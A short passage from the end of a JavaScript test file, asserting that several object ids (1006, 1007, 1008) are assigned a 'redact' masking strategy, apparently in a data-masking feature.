    for (const oid of [1006, 1007, 1008]) expect(masks.get(oid)?.get(1)?.mask.strategy, String(oid)).toBe('redact');
  });
});
